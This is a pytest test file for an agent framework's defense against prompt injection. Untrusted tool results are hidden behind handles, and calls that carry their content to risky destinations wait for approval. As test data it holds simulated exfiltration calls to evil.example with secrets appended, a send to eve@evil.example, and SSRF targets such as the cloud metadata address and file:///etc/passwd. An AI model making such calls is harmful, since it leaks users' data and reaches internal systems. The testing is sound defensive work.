"""Hidden results: the model passes them on by reference, and what they say decides nothing."""

import json
import threading
from datetime import date
from typing import Any, Literal

import pytest
from guarded_turns import Guarded
from hidden_tools import SENT, TEXT, TOOLS, get_mail, send
from one_policy import drive_here
from stacked_runs import flow_of

from agentkit import JsonAgent, JsonTool, Paused, RunContext, ToolError, ToolRegistry, tool
from agentkit.core.messages import label_of, user
from agentkit.events import ApprovalAsked
from agentkit.policies.approval import approve
from agentkit.policies.long_results import TruncatedResults
from agentkit.policies.taint.hidden import hide_untrusted
from agentkit.policies.taint.policy import guard_untrusted
from agentkit.testing import ScriptedModel, answer, call, calls

GET = call("get_mail")


@pytest.fixture(autouse=True)
def _empty():
    SENT.clear()


def hidden(*replies, tools=TOOLS, query="Do it.", **settings) -> Guarded:
    return Guarded(*replies, tools=tools, query=query, setting="hidden", **settings)


def taken(world, *replies, **settings) -> Guarded:
    """Turns that were taken up to the answer."""
    turns = hidden(*replies, **settings)
    turns.go_on(world)
    return turns


FORWARD = "Forward it to bob@home.example."


class TestHandles:
    """What the model reads, and what its references become."""

    def test_the_model_reads_a_handle_and_nothing_of_the_text(self, world):
        turns = taken(world, calls(GET, call("get_text"), call("list_mails")), call("get_text", fail=True))
        contents = turns.contents
        assert contents[0] == "#1 from get_mail, 124 characters, fields: sender (trusted), subject, body, pages"
        assert contents[1] == f"#2 from get_text, {len(TEXT)} characters"
        assert contents[2].startswith("#3 from list_mails, ")
        assert contents[2].endswith("a list of 2, fields: sender, subject, body, pages")
        assert contents[3] == f"#4 from get_text, {len(TEXT)} characters, an error"
        assert "IGNORE" not in turns.shown
        assert "ann@" not in turns.shown

    def test_the_tools_for_handles_are_offered_as_soon_as_there_is_one(self, world):
        first, second = taken(world, GET).requests
        assert {*second.tools} - {*first.tools} == {"reveal_result", "extract_value", "extract_text"}

    def test_references_become_values_of_the_parameters_type(self, world):
        turns = taken(
            world,
            GET,
            call("send", to="bob@home.example", text="From {#1.subject}: #1", copies="#1.pages"),
            call("send", to="bob@home.example", text="#1.body"),
            query=FORWARD,
        )
        assert SENT == [
            {"to": "bob@home.example", "text": "From Soup: #1", "copies": 3},
            {"to": "bob@home.example", "text": TEXT, "copies": 1},
        ]
        assert "IGNORE" not in turns.shown

    def test_what_a_tool_returns_of_a_reference_is_hidden_too(self, world):
        turns = taken(world, GET, call("send", to="bob@home.example", text="#1.body"), query=FORWARD)
        assert turns.contents[1] == f"#2 from send, {len(TEXT) + 5} characters"

    def test_the_answer_may_contain_references(self, world):
        turns = hidden(GET, answer("It is about {#1.subject}."), tools=(get_mail,))
        assert turns.go_on(world) == "It is about Soup."

    @pytest.mark.parametrize(
        ("reference", "reason"),
        [("#7", "there is no result #7. There are: #1."), ("#1.cc", "the result #1 has no field 'cc'"),
         ("#1.body.x", "has no field 'x'")],
    )  # fmt: skip
    def test_a_reference_that_does_not_exist_is_explained(self, world, reference, reason):
        turns = taken(world, GET, call("send", to="bob@home.example", text=reference), query=FORWARD)
        assert reason in turns.contents[1]
        assert not SENT

    def test_a_value_of_a_wrong_type_is_refused_without_showing_it(self, world):
        turns = taken(world, GET, call("send", to="bob@home.example", copies="#1.body"), query=FORWARD)
        assert "not valid for send: copies = #1.body" in turns.contents[1]
        assert "IGNORE" not in turns.shown

    def test_handles_that_were_stored_are_resolved_later(self, world):
        kept = json.loads(json.dumps(taken(world, GET).kept.as_dict()))
        later = taken(
            world,
            call("send", to="bob@home.example", text="#1.body"),
            GET,
            query=FORWARD,
            kept=TruncatedResults.from_dict(kept),
        )
        assert SENT[0]["text"] == TEXT
        assert "#3 from get_mail" in later.shown

    def test_results_of_a_turn_that_is_stopped_are_hidden_too(self, world):
        @tool(on_error="raise")
        def stop() -> None:
            """Stops."""
            raise Paused

        turns = hidden(calls(GET, call("stop")), tools=(get_mail, stop))
        with pytest.raises(Paused):
            turns.go_on(world)
        assert turns.contents[:1] == [
            "#1 from get_mail, 124 characters, fields: sender (trusted), subject, body, pages"
        ]


def asks(world, *replies, **settings):
    """Return the tools whose calls wait for a decision."""
    return [waiting.name for waiting in hidden(*replies, **settings).list_held(world)]


class TestDecisions:
    """Which calls wait: by the role of the parameter that gets a reference."""

    def test_an_untrusted_destination_waits_and_content_does_not(self, world):
        assert asks(world, GET, call("send", to="#1.subject", text="hello")) == ["send"]
        assert asks(world, GET, call("send", to="{#1.subject}@x.example", text="hello")) == ["send"]
        assert asks(world, GET, call("send", to="bob@home.example", text="#1.body")) == []

    def test_a_trusted_field_may_be_a_destination(self, world):
        assert asks(world, GET, call("send", to="#1.sender", text="#1.body")) == []

    def test_an_address_that_is_looked_up_by_reference_may_be_a_destination(self, world):
        @tool(effect="read", trust={"email": "trusted"})
        def find_contact(email: str) -> dict:
            """Finds a contact."""
            return {"asked": email} if email == "Soup" else {"asked": email, "email": email}

        def held(looked_up, to):
            turns = GET, call("find_contact", email=looked_up), call("send", to=to)
            return asks(world, *turns, tools=(*TOOLS, find_contact))

        assert held("#1.sender", "#2.email") == []
        assert held("#1.body", "#2.email") == []
        assert held("#1.body", "#2.asked") == []  # the same value
        assert held("#1.subject", "#2.asked") == ["send"]

    def test_what_the_model_writes_itself_needs_no_origin(self, world):
        assert asks(world, GET, call("send", to="any@home.example", text="I read it")) == []

    def test_content_without_a_destination_waits_unless_the_model_has_words_of_its_own(self, world):
        assert asks(world, GET, call("plan", title="Soup day", where="#1.body")) == []
        assert asks(world, GET, call("plan", title="#1.subject", where="#1.body")) == ["plan"]
        assert asks(world, GET, call("plan", title="Soup day", where="#1.body", guests=["#1.subject"])) == ["plan"]
        ask = call("extract_value", reference="#1", question="Which?", kind="choice", choices=["Soup", "Salad"])
        turns = GET, ask, call("plan", title="Soup", where="#1.body")
        assert asks(world, *turns, extracts=("Soup",)) == ["plan"]
        assert asks(world, *turns, extracts=("Soup",), query="Plan soup.") == []

    def test_what_a_tool_returns_of_a_trusted_field_is_shown(self, world):
        turns = taken(world, GET, call("find_phone", name="#1.sender"), call("find_phone", name="#1.subject"))
        assert turns.contents[1] == "ann@home.example: 4711"
        assert turns.contents[2] == "#2 from find_phone, 10 characters"
        assert "IGNORE" not in turns.shown

    def test_a_plain_text_waits_and_a_plain_number_does_not(self, world):
        assert asks(world, GET, call("send", to="bob@home.example", tag="#1.subject")) == ["send"]
        assert asks(world, GET, call("send", to="bob@home.example", copies="#1.pages")) == []

    def test_the_question_shows_the_value_and_its_source(self, world):
        turns = hidden(GET, call("send", to="#1.subject", text="hello"))
        with pytest.raises(Paused):
            turns.go_on(world)
        [asked] = [event for event in turns.events if isinstance(event, ApprovalAsked)]
        assert (asked.untrusted[0].value, asked.untrusted[0].origin) == ("Soup", "get_mail")

    def test_after_a_text_was_revealed_every_call_waits(self, world):
        turns = hidden(
            GET,
            call("reveal_result", reference="#1.body"),
            call("send", to="bob@home.example"),
            query="Mail bob@home.example.",
        )
        with pytest.raises(Paused):
            turns.go_on(world)
        assert "IGNORE" in turns.shown
        assert label_of(turns.messages[4]).sources == ("get_mail",)
        assert turns.contents[1].startswith("<untrusted ")

    def test_turns_inside_of_a_tool_that_gets_a_reference_are_held(self, world):
        held = []

        def clerk(query: str) -> str:
            """Sends."""
            inner = Guarded(call("send", to="eve@evil.example"), tools=(send,), query=query)
            try:
                return str(drive_here(inner.guarded()))
            except Paused as pause:
                held.extend(waiting.name for waiting in pause.calls)
                return "waits"

        taken(world, GET, call("clerk", query="{#1.body}"), tools=(get_mail, tool(clerk, effect="read")))
        assert held == ["send"]
        assert not SENT


class TestOwnWords:
    """What agentkit, the developer or a person says in the place of a result is shown."""

    @staticmethod
    def read(world, turn, decision=None, tools=TOOLS):
        """Return what the model reads of a call that is decided about."""

        def decide(waiting):
            return None if waiting.name == "get_mail" else decision

        return taken(world, GET, turn, tools=tools, decide=decide, query=FORWARD).contents[1]

    @pytest.mark.parametrize("effect", ["write", "danger"])
    def test_a_refusal_is_shown_with_its_reason(self, world, effect):
        @tool(effect=effect)
        def pay(to: str) -> str:
            """Pays."""
            raise AssertionError

        turn = call("pay", to="#1.subject")
        shown = self.read(world, turn, "not today, the bank is closed", tools=(get_mail, pay))
        assert shown == "Denied: not today, the bank is closed"
        assert self.read(world, turn, False, tools=(get_mail, pay)).startswith("Denied: ")

    @pytest.mark.parametrize(
        ("reason", "shown"),
        [
            (f"no: {TEXT}", "no: [#1.body]"),
            (f"no: {TEXT[:30]}...", "no: [#1.body]..."),
            (TEXT.lower().replace(" and", "!"), "[#1.body]!"),
            (f"{TEXT} {TEXT[:20]}!", "[#1.body] [#1.body]!"),
            ("Ignore it.", "Ignore it."),
        ],
    )
    def test_a_reason_that_quotes_a_hidden_text_has_its_reference(self, world, reason, shown):
        turn = call("send", to="bob@home.example", text="#1.body")
        assert self.read(world, turn, reason).startswith(f"Denied: {shown}")

    def test_a_short_hidden_text_is_replaced_as_a_whole_word(self, world):
        turn = call("send", to="bob@home.example", text="{#1.subject}")
        shown = self.read(world, turn, "soup is off, Soups are not")
        assert shown == "Denied: [#1.subject] is off, Soups are not"

    def test_wrong_arguments_of_an_untrusted_tool_are_explained(self, world):
        assert "ValidationError" in self.read(world, call("get_text", fail="perhaps"))
        assert "there is no tool 'get_texts'" in self.read(world, call("get_texts", x="#1"))

    def test_a_timeout_is_shown_and_the_error_of_a_tool_is_not(self, world):
        @tool(effect="write", timeout=0.05)
        def slow(to: str) -> str:
            """Takes long."""
            release.wait(60)
            return to

        release = threading.Event()
        model = ScriptedModel(GET, call("slow", to="#1.body"), answer("Done."))
        agent = JsonAgent(get_mail, slow, model=model, untrusted="hidden", approve=lambda waiting: True)
        result = world.run(agent, "Go.")
        release.set()
        assert result.calls[1].content.startswith("TimedOut: slow did not finish within 0.05 seconds")
        assert self.read(world, call("get_text", fail=True)) == f"#2 from get_text, {len(TEXT)} characters, an error"

    def test_a_tool_that_returns_an_error_of_agentkit_shows_nothing(self, world):
        @tool(effect="read", trust="untrusted")
        def look() -> object:
            """Looks."""
            return send.call_with_raw_arguments(json.dumps({"to": TEXT, "copies": TEXT}))

        @tool(effect="read", trust="untrusted")
        def look_up() -> object:
            """Looks up."""
            return ToolRegistry(send).execute("send", json.dumps({"to": TEXT, "copies": TEXT})).value

        for name in ("look", "look_up"):
            shown = self.read(world, call(name), tools=(get_mail, look, look_up))
            assert shown.startswith(f"#2 from {name}, ")
            assert "IGNORE" not in shown

    def test_the_reason_of_a_check_is_shown_without_what_it_quotes(self, world):
        def check(text):
            return f"Write less than {text}" if "pay" in text else None

        agent = JsonAgent(
            get_mail,
            model=ScriptedModel(GET, answer("It says: {#1.body}"), answer("Soup.")),
            untrusted="hidden",
            checks=[check],
        )
        assert world.run(agent, "Look.").answer == "Soup."
        [shown] = [m["content"] for m in agent.history if "not accepted" in str(m["content"])]
        assert "The answer was not accepted. Write less than It says: [#1.body]" in shown

    def test_new_arguments_of_a_person_are_named_beside_a_handle(self, world):
        turn = call("send", to="bob@home.example", text="#1.body")
        shown = self.read(world, turn, {"to": "bob@home.example", "text": "Hi"})
        note, handle = shown.split("\n")
        assert note.startswith("[A person changed the arguments to ")
        assert handle.startswith("#2 from send, ")


LINK = "https://news.example/soup?id=7"


class TestVisits:
    """A read that sends others nothing but the address that they wrote."""

    @staticmethod
    def visits(world, *turns, body=f"Read {LINK}!", also="", **settings):
        """Return the addresses that were visited without a decision."""
        visited = []

        @tool(effect="read", trust="untrusted")
        def get_mails() -> list[dict]:
            """Gets the mails."""
            return [{"body": body, "link": LINK}, {"body": also}]

        @tool(effect="read", trust="untrusted")
        def fetch(
            url: str,
            also: list[str] = [],
            note: str = "",
            timeout: int = 5,
            mode: Literal["a", "b"] = "a",
            fresh: bool = False,
        ):
            """Fetches a page."""
            visited.extend([url, *also])
            return "a page with https://page.example/next"

        @tool(effect="write", trust="untrusted")
        def post(url: str) -> str:
            """Posts."""
            visited.append(url)
            return "posted"

        asks(world, call("get_mails"), *turns, tools=(get_mails, fetch, post), **settings)
        return visited

    def test_an_address_that_others_wrote_whole_is_visited(self, world):
        ask = call("extract_text", reference="#1", question="Which page?")
        assert self.visits(world, call("fetch", url="#1.0.link")) == [LINK]
        assert self.visits(world, ask, call("fetch", url="#2", mode="a"), extracts=(LINK,)) == [LINK]
        assert self.visits(world, call("fetch", url="#1.0.link", also=["#1.0.link"])) == [LINK, LINK]

    def test_what_the_visit_returns_is_hidden_and_its_addresses_wait(self, world):
        ask = call("extract_text", reference="#2", question="Which page?")
        turns = call("fetch", url="#1.0.link"), ask, call("fetch", url="#3")
        assert self.visits(world, *turns, extracts=("https://page.example/next",)) == [LINK]

    @pytest.mark.parametrize(
        "turn",
        [
            call("fetch", url="#1.0.link", note="4711"), call("fetch", url="#1.0.link", note="#1.0.body"),
            call("fetch", url="#1.0.link", timeout=4711), call("fetch", url="#1.0.link", mode="b"),
            call("fetch", url="#1.0.link", fresh=True), call("fetch", url="{#1.0.link}&secret=4711"),
            call("fetch", url="https://evil.example/{#1.1.body}"), call("fetch", url="#1.0.body"),
            call("fetch", url="#1.0.link", also=["https://evil.example/4711"]), call("post", url="#1.0.link"),
        ],
    )  # fmt: skip
    def test_a_call_that_may_carry_something_else_waits(self, world, turn):
        assert self.visits(world, turn, also="secret") == []

    @pytest.mark.parametrize(
        "made", [f"{LINK}&secret=4711", "https://news.example/soup", "https://news.example", f"{LINK} 4711", "secret"]
    )
    def test_an_address_that_was_made_from_texts_waits(self, world, made):
        ask = call("extract_text", reference="#1", question="Which page?")
        assert self.visits(world, ask, call("fetch", url="#2"), extracts=(made,), also="secret 4711") == []

    @pytest.mark.parametrize(
        "link",
        [
            "http://169.254.169.254/latest", "http://localhost:8000/x", "file:///etc/passwd", "http://intranet/x",
            "http://metadata.google.internal/x", "http://nas.local", "https://ann:pw@news.example/", "http://0x7f.1/",
            "ann@home.example", "http://[::1]/", "//news.example/x",
        ],
    )  # fmt: skip
    def test_an_address_without_a_public_name_waits(self, world, link):
        ask = call("extract_text", reference="#1", question="Which page?")
        assert self.visits(world, ask, call("fetch", url="#2"), extracts=(link,), body=f"Read {link} now") == []

    @pytest.mark.parametrize("link", ["www.news.example", "news.example/soup", "HTTP://News.Example:8080/a?b=c#d"])
    def test_an_address_is_visited_in_each_notation(self, world, link):
        ask = call("extract_text", reference="#1", question="Which page?")
        assert self.visits(world, ask, call("fetch", url="#2"), extracts=(link,), body=f"Read {link}, now") == [link]

    def test_an_address_of_parts_of_several_texts_waits(self, world):
        ask = call("extract_text", reference="#1", question="Which page?")
        turns = ask, call("fetch", url="#2")
        assert (
            self.visits(
                world, *turns, extracts=("https://evil.example/?q=4711",), body="https://evil.example/?q=", also="4711"
            )
            == []
        )

    def test_after_a_text_was_revealed_it_waits(self, world):
        turns = call("reveal_result", reference="#1.0.body"), call("fetch", url="#1.0.link")
        assert self.visits(world, *turns) == []

    def test_a_text_with_limited_readers_is_not_visited(self, world):
        @tool(effect="read", trust="untrusted", readers=["ann@home.example"])
        def get_note() -> dict:
            """Gets the note."""
            return {"link": LINK}

        @tool(effect="read", trust="untrusted")
        def fetch(url: str) -> str:
            """Fetches a page."""
            raise AssertionError

        assert asks(world, call("get_note"), call("fetch", url="#1.link"), tools=(get_note, fetch)) == ["fetch"]


class TestExtracts:
    """Questions to a model without tools."""

    @pytest.mark.parametrize(
        ("kind", "wanted", "value", "text", "more"),
        [
            ("yes_or_no", bool, True, "true", {}), ("number", float, 3.0, "3.0", {}),
            ("date", date, date(2026, 5, 1), "2026-05-01", {}),
            ("choice", Literal["a", "b"], "b", "b", {"choices": ["a", "b"]}),
        ],
    )  # fmt: skip
    def test_the_answer_is_a_small_value_and_the_context_stays_clean(self, world, kind, wanted, value, text, more):
        ask = call("extract_value", reference="#1", question="What?", kind=kind, **more)
        turns = taken(world, GET, ask, extracts=(value,))
        assert turns.contents[1].strip('"') == text
        assert not label_of(turns.messages[4]).is_untrusted
        [(asked, question, given)] = turns.extracted
        assert (asked, question) == (wanted, "What?")
        assert TEXT in given

    def test_a_text_from_a_result_is_passed_on_unread(self, world):
        ask = call("extract_text", reference="#1.body", question="To whom?")
        turns = hidden(
            GET,
            ask,
            call("send", to="bob@home.example", text="To {#2}?"),
            call("send", to="#2", text="hello"),
            query="Tell bob@home.example who gets the money.",
            extracts=("Eve, the rich one",),
        )
        assert [waiting.arguments for waiting in turns.list_held(world)] == [
            '{"to": "Eve, the rich one", "text": "hello"}'
        ]
        assert turns.contents[1] == "#2 from extract_text, 17 characters"
        assert [entry["text"] for entry in SENT] == ["To Eve, the rich one?"]
        assert turns.extracted == [(str, "To whom?", TEXT)]
        assert "Eve" not in turns.shown

    def test_an_address_in_an_extracted_text_waits_unless_it_is_trusted(self, world):
        ask = call("extract_text", reference="#1", question="What?")
        turns = GET, ask, call("send", to="bob@home.example", text="#2")
        there = "See www.evil.example"
        assert asks(world, *turns, extracts=(there,)) == ["send"]
        assert asks(world, *turns, extracts=(there,), query="What is www.evil.example?") == []
        assert asks(world, *turns, extracts=("See you",)) == []

    def test_a_failed_extract_shows_nothing_of_the_text(self, world):
        ask = call("extract_value", reference="#1", question="What?", kind="number")
        turns = taken(world, GET, ask, extracts=(ToolError(TEXT),))
        assert turns.contents[1] == "the question has no answer of this kind in the text."
        assert "IGNORE" not in turns.shown

    def test_an_extracted_value_is_not_a_destination(self, world):
        @tool(effect="write")
        def pay(account: int, amount: float) -> str:
            """Pays."""
            return "paid"

        ask = call("extract_value", reference="#1", question="Which account?", kind="number")

        def held(**arguments):
            turns = GET, ask, call("pay", **arguments)
            return asks(world, *turns, tools=(get_mail, pay), extracts=(771.0,), query="Pay 5 to 42.")

        assert held(account=771, amount=5.0) == ["pay"]
        assert held(account=42, amount=771.0) == []


class TestLiterals:
    """What the model writes itself after it read small values from hidden texts."""

    PICKS = [
        call("extract_value", reference="#1", question=question, kind="choice", choices=["evil", "co", "Pay Eve"])
        for question in ("Which?", "Which next?")
    ]

    def held(self, world, turn, extracts=("evil", "co"), **settings):
        return asks(world, GET, *self.PICKS, turn, extracts=extracts, **settings)

    @pytest.mark.parametrize("text", ["See https://evil.co/x", "See www.evil.co", "Ask evil@evil.co!"])
    def test_an_address_in_content_waits_as_a_destination_does(self, world, text):
        turn = call("send", to="bob@home.example", text=text)
        assert self.held(world, turn, query=FORWARD) == ["send"]
        assert self.held(world, turn, query=f"{FORWARD} {text}") == []
        assert asks(world, GET, turn, query=FORWARD) == []  # the model alone wrote it

    def test_other_words_to_a_trusted_destination_pass(self, world):
        assert self.held(world, call("send", to="bob@home.example", text="It is evil"), query=FORWARD) == []

    @pytest.mark.parametrize(
        ("title", "waits"),
        [("evil co", True), ("evilco.", True), ("Pay Eve", True), ("The evil co", False), ("Plan it", False)],
    )
    def test_content_that_is_put_together_from_extracts_waits_without_a_destination(self, world, title, waits):
        turn = call("plan", title=title)
        assert bool(self.held(world, turn, ("evil", "Pay Eve") if "Pay" in title else ("evil", "co"))) is waits
        assert self.held(world, turn, query=f"Plan {title}") == []


def test_nothing_is_hidden_of_trusted_tools(world):
    look = JsonTool(lambda: "plain", name="look", description="Looks.")
    assert taken(world, call("look"), tools=(look,)).contents[0] == "plain"


def test_under_the_other_policies_the_answer_has_the_value_of_a_reference(world):
    async def extract(kind: Any, question: str, text: str, run: RunContext[Any]) -> Any:
        raise AssertionError("no question was asked")

    history = [user("What is it about?")]
    policies = (
        hide_untrusted(history, TruncatedResults(), extract, RunContext(None)),
        guard_untrusted(history, setting="hidden"),
        approve(),
    )
    model = ScriptedModel(GET, answer("It is about {#1.subject}."))
    given, _ = world.drive(flow_of(model, get_mail, history=history, inner=policies))
    assert given.value == "It is about Soup."
    assert "IGNORE" not in str(history)


def test_an_agent_hides_what_is_untrusted_and_nothing_else(world):
    look = JsonTool(lambda: "plain", name="look", description="Looks.")
    model = ScriptedModel(calls(call("look"), GET), answer("It is about {#2.subject}."), answer("It is {#1.subject}."))
    agent = JsonAgent(look, get_mail, untrusted="hidden", model=model)
    result = world.run(agent, "Look.")
    assert agent.history[3]["content"] == "plain"
    assert result.answer == "It is Soup."
